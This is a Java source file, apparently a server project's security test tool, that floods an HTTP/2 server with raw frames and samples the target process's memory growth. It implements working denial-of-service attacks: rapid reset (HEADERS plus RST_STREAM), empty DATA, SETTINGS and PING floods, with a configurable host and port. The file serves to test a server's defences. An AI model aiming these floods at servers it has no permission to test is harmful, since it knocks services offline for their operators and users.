import java.io.BufferedOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A bounded HTTP/2 abuse client for measuring a server outside the test suite (see
 * docs/SECURITY.md). It speaks raw frames over cleartext h2 (prior knowledge) and runs one attack
 * in rounds: each connection attacks until the server cuts it off, then the next one starts, on
 * {@code --connections} connections at once, for {@code --seconds}. With {@code --pid} it samples
 * that process's resident set (Linux /proc) and prints its growth.
 *
 * <pre>
 * java h2-interop-tests/abuse/Attack.java --port 8080 --attack rapid-reset --connections 4 \
 *     --seconds 20 --pid 12345
 * </pre>
 *
 * Attacks: {@code rapid-reset} (HEADERS then RST_STREAM, as many as the server takes; with {@code
 * --pairs N} exactly N per connection, then a PING whose ACK shows the server has read them all,
 * then a clean close: for counting what each stream costs the server), {@code empty-data} (one
 * request, then DATA frames without payload or END_STREAM), {@code settings} (empty SETTINGS
 * frames), {@code ping} (PING frames).
 */
public final class Attack {
  private static String host = "127.0.0.1";
  private static int port;
  private static String attack = "rapid-reset";
  private static int connections = 1;
  private static int seconds = 20;
  private static long pid = -1;
  private static long pairs = -1; // rapid-reset: streams per connection, then a clean close
  private static long maxRounds = Long.MAX_VALUE; // connections per worker
  private static final int BATCH = 256; // frame pairs per write

  private static final AtomicLong framesSent = new AtomicLong();
  private static final AtomicLong connectionsUsed = new AtomicLong();
  private static final AtomicLong cutOff = new AtomicLong();
  private static final AtomicLong completed = new AtomicLong();
  private static final AtomicLong goAwayCodes = new AtomicLong(-1);

  public static void main(String[] args) throws Exception {
    for (int i = 0; i < args.length; i += 2) {
      String value = i + 1 < args.length ? args[i + 1] : "";
      switch (args[i]) {
        case "--host" -> host = value;
        case "--port" -> port = Integer.parseInt(value);
        case "--attack" -> attack = value;
        case "--connections" -> connections = Integer.parseInt(value);
        case "--seconds" -> seconds = Integer.parseInt(value);
        case "--pid" -> pid = Long.parseLong(value);
        case "--pairs" -> pairs = Long.parseLong(value);
        case "--rounds" -> maxRounds = Long.parseLong(value);
        default -> {
          System.err.println("unknown option " + args[i]);
          System.exit(2);
        }
      }
    }
    if (port <= 0 || seconds <= 0 || seconds > 600 || connections < 1 || connections > 64) {
      System.err.println("need --port N; --seconds 1..600, --connections 1..64");
      System.exit(2);
    }
    long deadline = System.nanoTime() + seconds * 1_000_000_000L;
    long rssBefore = rssKiB();
    long[] rssMax = {rssBefore};
    AtomicBoolean attacking = new AtomicBoolean(true);
    Thread sampler =
        Thread.ofPlatform()
            .daemon()
            .start(
                () -> {
                  while (attacking.get() && System.nanoTime() < deadline) {
                    rssMax[0] = Math.max(rssMax[0], rssKiB());
                    try {
                      Thread.sleep(100);
                    } catch (InterruptedException e) {
                      return;
                    }
                  }
                });
    List<Thread> workers = new ArrayList<>();
    for (int c = 0; c < connections; c++) {
      workers.add(Thread.ofPlatform().start(() -> rounds(deadline)));
    }
    for (Thread t : workers) t.join();
    attacking.set(false);
    sampler.join();
    long rssAfter = rssKiB();
    System.out.printf(
        Locale.ROOT,
        "attack=%s connections=%d seconds=%d frames=%d connectionsUsed=%d cutOff=%d"
            + " lastGoAwayCode=%d completedWithPingAck=%d%n",
        attack,
        connections,
        seconds,
        framesSent.get(),
        connectionsUsed.get(),
        cutOff.get(),
        goAwayCodes.get(),
        completed.get());
    if (pid > 0) {
      System.out.printf(
          Locale.ROOT,
          "rss KiB: before=%d max=%d after=%d growth(max)=%.1f MiB%n",
          rssBefore,
          rssMax[0],
          rssAfter,
          (rssMax[0] - rssBefore) / 1024.0);
    }
  }

  private static long rssKiB() {
    if (pid <= 0) return 0;
    try {
      for (String line : Files.readAllLines(Path.of("/proc/" + pid + "/status"))) {
        if (line.startsWith("VmRSS:")) {
          return Long.parseLong(line.replaceAll("[^0-9]", ""));
        }
      }
    } catch (IOException e) {
      return 0;
    }
    return 0;
  }

  /** Attacks on one connection after another until the deadline. */
  private static void rounds(long deadline) {
    for (long round = 0; round < maxRounds && System.nanoTime() < deadline; round++) {
      connectionsUsed.incrementAndGet();
      try (Socket socket = new Socket()) {
        socket.connect(new InetSocketAddress(host, port), 5_000);
        socket.setTcpNoDelay(true);
        socket.setSoTimeout(5_000);
        OutputStream out = new BufferedOutputStream(socket.getOutputStream(), 64 * 1024);
        Reader reader = new Reader(socket.getInputStream(), out);
        Thread readerThread = Thread.ofPlatform().daemon().start(reader);
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(out, 4, 0, 0, new byte[0]); // SETTINGS
        out.flush();
        attack(out, reader, deadline);
        socket.close();
        readerThread.join(1_000);
        if (reader.goAway >= 0) {
          cutOff.incrementAndGet();
          goAwayCodes.set(reader.goAway);
        }
      } catch (java.net.ConnectException e) {
        System.err.println("cannot connect: " + e.getMessage());
        return;
      } catch (IOException e) {
        // the server cut us off mid-write: the next round begins
        cutOff.incrementAndGet();
      } catch (InterruptedException e) {
        return;
      }
    }
  }

  /** :method GET, :scheme http, :path /, :authority localhost, without Huffman or indexing. */
  private static final byte[] REQUEST = {
    (byte) 0x82, (byte) 0x86, (byte) 0x84, 0x01, 9, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'
  };

  private static final byte[] POST = {
    (byte) 0x83, (byte) 0x86, (byte) 0x84, 0x01, 9, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'
  };

  private static void attack(OutputStream out, Reader reader, long deadline) throws IOException {
    int stream = 1;
    ByteArrayOutputStream batch = new ByteArrayOutputStream();
    if (attack.equals("empty-data")) {
      frame(out, 1, 0x4, 1, POST); // HEADERS, END_HEADERS, no END_STREAM
    }
    long left = pairs;
    while (!reader.done && System.nanoTime() < deadline && left != 0) {
      batch.reset();
      for (int i = 0; i < BATCH && left != 0; i++, left--) {
        switch (attack) {
          case "rapid-reset" -> {
            frame(batch, 1, 0x5, stream, REQUEST); // HEADERS, END_STREAM | END_HEADERS
            frame(batch, 3, 0, stream, new byte[] {0, 0, 0, 8}); // RST_STREAM(CANCEL)
            stream += 2;
            if (stream < 0) return;
          }
          case "empty-data" -> frame(batch, 0, 0, 1, new byte[0]);
          case "settings" -> frame(batch, 4, 0, 0, new byte[0]);
          case "ping" -> frame(batch, 6, 0, 0, new byte[8]);
          default -> throw new IllegalArgumentException("unknown attack " + attack);
        }
      }
      synchronized (out) {
        batch.writeTo(out);
        out.flush();
      }
      framesSent.addAndGet(attack.equals("rapid-reset") ? 2L * BATCH : BATCH);
    }
    if (left == 0) {
      synchronized (out) {
        frame(out, 6, 0, 0, new byte[8]); // PING
        out.flush();
      }
      while (!reader.done && !reader.pingAcked && System.nanoTime() < deadline) {
        Thread.onSpinWait();
      }
      if (reader.pingAcked) completed.incrementAndGet();
      synchronized (out) {
        frame(out, 7, 0, 0, new byte[8]); // GOAWAY(NO_ERROR)
        out.flush();
      }
    }
  }

  private static void frame(OutputStream out, int type, int flags, int stream, byte[] payload)
      throws IOException {
    int n = payload.length;
    out.write(
        new byte[] {(byte) (n >>> 16), (byte) (n >>> 8), (byte) n, (byte) type, (byte) flags});
    out.write(
        new byte[] {
          (byte) (stream >>> 24), (byte) (stream >>> 16), (byte) (stream >>> 8), (byte) stream
        });
    out.write(payload);
  }

  /** Reads and drops the server's frames; acknowledges its SETTINGS; notes GOAWAY. */
  private static final class Reader implements Runnable {
    private final DataInputStream in;
    private final OutputStream out;
    volatile boolean done;
    volatile long goAway = -1;
    volatile boolean pingAcked;

    Reader(InputStream in, OutputStream out) {
      this.in = new DataInputStream(new java.io.BufferedInputStream(in, 64 * 1024));
      this.out = out;
    }

    @Override
    public void run() {
      try {
        byte[] header = new byte[9];
        while (true) {
          in.readFully(header);
          int length = (header[0] & 0xff) << 16 | (header[1] & 0xff) << 8 | (header[2] & 0xff);
          int type = header[3] & 0xff;
          int flags = header[4] & 0xff;
          byte[] payload = new byte[length];
          in.readFully(payload);
          if (type == 4 && (flags & 1) == 0) {
            synchronized (out) {
              frame(out, 4, 1, 0, new byte[0]);
            }
          } else if (type == 6 && (flags & 1) != 0) {
            pingAcked = true;
          } else if (type == 7) {
            goAway =
                (payload[4] & 0xffL) << 24
                    | (payload[5] & 0xff) << 16
                    | (payload[6] & 0xff) << 8
                    | (payload[7] & 0xff);
          }
        }
      } catch (EOFException e) {
        // the server closed the connection
      } catch (IOException e) {
        // reset or timeout
      } finally {
        done = true;
      }
    }
  }
}
